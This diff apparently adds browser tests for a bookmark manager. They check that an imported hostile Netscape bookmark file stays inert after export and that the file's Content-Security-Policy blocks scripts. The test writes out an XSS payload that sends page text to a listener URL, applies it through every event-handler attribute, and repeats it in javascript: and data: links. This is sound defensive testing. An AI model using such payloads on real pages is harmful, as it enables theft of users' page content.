@@ -1,0 +1,120 @@
+import { readFile, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import type { Page } from 'playwright-core'
+import t, { type Test } from 'tap'
+import { readBookmarkFile } from '../../src/client/bookmark-file/read.ts'
+import { writeBookmarkFile } from '../../src/client/bookmark-file/write.ts'
+import { folder } from '../support/service.ts'
+import { importFile, openChromium, openContext, openPage, show } from './fixture.ts'
+
+const browser = await openChromium()
+if (typeof browser === 'string') t.plan(0, browser)
+else {
+  t.test('a stranger’s file that was imported does nothing when the saved file is opened as a page', async (t) => {
+    const listener = await listen(t)
+    const page = await openPage(t, browser, 'Ida')
+    const file = await hostileFile(page, listener.url)
+    await importFile(page, { name: 'list.html', mimeType: 'text/html', buffer: Buffer.from(file) })
+    await show(page, 'settings')
+    const saving = page.waitForEvent('download')
+    await page.getByRole('button', { name: 'Save as a bookmark file' }).click()
+    const saved = join(await folder(t), 'bookmarks.html')
+    await (await saving).saveAs(saved)
+    const text = await readFile(saved, 'utf8')
+    t.match(text, 'LAST_VISIT="1466271425"', 'what browsers write stays')
+    await use(t, saved)
+    t.same(listener.heard, [])
+  })
+
+  t.test('the file’s policy alone keeps scripts, styles and pictures from acting', async (t) => {
+    const listener = await listen(t)
+    const page = await (await openContext(t, browser)).newPage()
+    const items = (await hostileFile(page, listener.url)).replace(/^.*<DL>/s, '')
+    const whole = writeBookmarkFile([]).replace(
+      '<DL><p>\n',
+      `<DL><p>\n${items}<IMG SRC="${listener.url}"><SCRIPT SRC="${listener.url}"></SCRIPT>`,
+    )
+    const path = join(await folder(t), 'bookmarks.html')
+    await writeFile(path, whole)
+    await use(t, path)
+    t.same(listener.heard, [])
+    // The same without a policy does all that it can: otherwise this test would prove nothing.
+    await writeFile(path, whole.replace(/<META HTTP-EQUIV="Content-Security-Policy"[^>]*>/, ''))
+    await open(t, path)
+    await listener.next
+  })
+
+  t.test('a bookmarklet stays in the file, and does not run there', async (t) => {
+    const code = "javascript:void(document.title='ran')"
+    const html = writeBookmarkFile([{ id: '1', title: 'Bookmarklet', url: code, source: 'bookmarks' }])
+    t.equal(readBookmarkFile(html)[0]?.url, code)
+    const path = join(await folder(t), 'bookmarks.html')
+    await writeFile(path, html)
+    const page = await open(t, path)
+    await page.getByRole('link', { name: 'Bookmarklet' }).click()
+    t.equal(await page.title(), 'Bookmarks')
+  })
+
+  /** Opens the file as a page and does there what a person could: nothing must come of it. */
+  async function use(t: Test, path: string): Promise<void> {
+    const page = await open(t, path)
+    const positions = await page
+      .locator('a, h3, hr')
+      .evaluateAll((all) => all.map((one) => getComputedStyle(one).position))
+    t.same([...new Set(positions)], ['static'], 'nothing covers the page')
+    if (!t.passing()) return
+    for (const element of await page.locator('a, h3, hr').all()) await element.hover()
+    await page.getByText('Bookmarklet').click()
+    await page.getByText('Page in an address').click()
+    t.equal(page.url(), pathToFileURL(path).href)
+    t.equal(await page.title(), 'Bookmarks')
+  }
+
+  async function open(t: Test, path: string): Promise<Page> {
+    const page = await (await openContext(t, browser as Exclude<typeof browser, string>, {}, /./)).newPage()
+    await page.goto(pathToFileURL(path).href)
+    return page
+  }
+}
+
+/** Hears what a script of the page sends. */
+async function listen(t: Test): Promise<{ url: string; heard: string[]; next: Promise<void> }> {
+  const heard: string[] = []
+  const { promise: next, resolve } = Promise.withResolvers<void>()
+  const server = createServer((request, response) => {
+    heard.push(request.url ?? '')
+    resolve()
+    response.end()
+  })
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
+  t.teardown(() => server.close())
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard, next }
+}
+
+/** A link, a folder and a separator with everything that this browser lets an attribute do, and addresses that are code. */
+async function hostileFile(page: Page, url: string): Promise<string> {
+  const handlers = await page.evaluate(() => {
+    const names = new Set<string>()
+    for (const name in document.createElement('a')) if (name.startsWith('on')) names.add(name)
+    for (const name in document.body) if (name.startsWith('on')) names.add(name)
+    return [...names]
+  })
+  const send = `document.title='ran';new Image().src='${url}'+encodeURIComponent(document.body.innerText)`
+  const acting = handlers.map((name) => `${name}="${send}"`).join(' ')
+  const others = `STYLE="position:fixed;inset:0;background:url(${url})" AUTOFOCUS TABINDEX=0 CONTENTEDITABLE PING="${url}" TARGET=_top DOWNLOAD IS=x SLOT=x ACCESSKEY=a`
+  const attributes = `LAST_VISIT="1466271425" ${others} ${acting}`
+  return `<!DOCTYPE NETSCAPE-Bookmark-file-1>
+<DL><p>
+  <DT><A HREF="https://example.org/list" ${attributes}>Nice list</A>
+  <DT><H3 ${attributes}>Folder</H3>
+  <DL><p>
+    <DT><A HREF="javascript:${send}">Bookmarklet</A>
+    <DT><A HREF="data:text/html,&lt;script src=${url}&gt;&lt;/script&gt;">Page in an address</A>
+  </DL><p>
+  <HR ${attributes}>
+</DL><p>
+`
+}
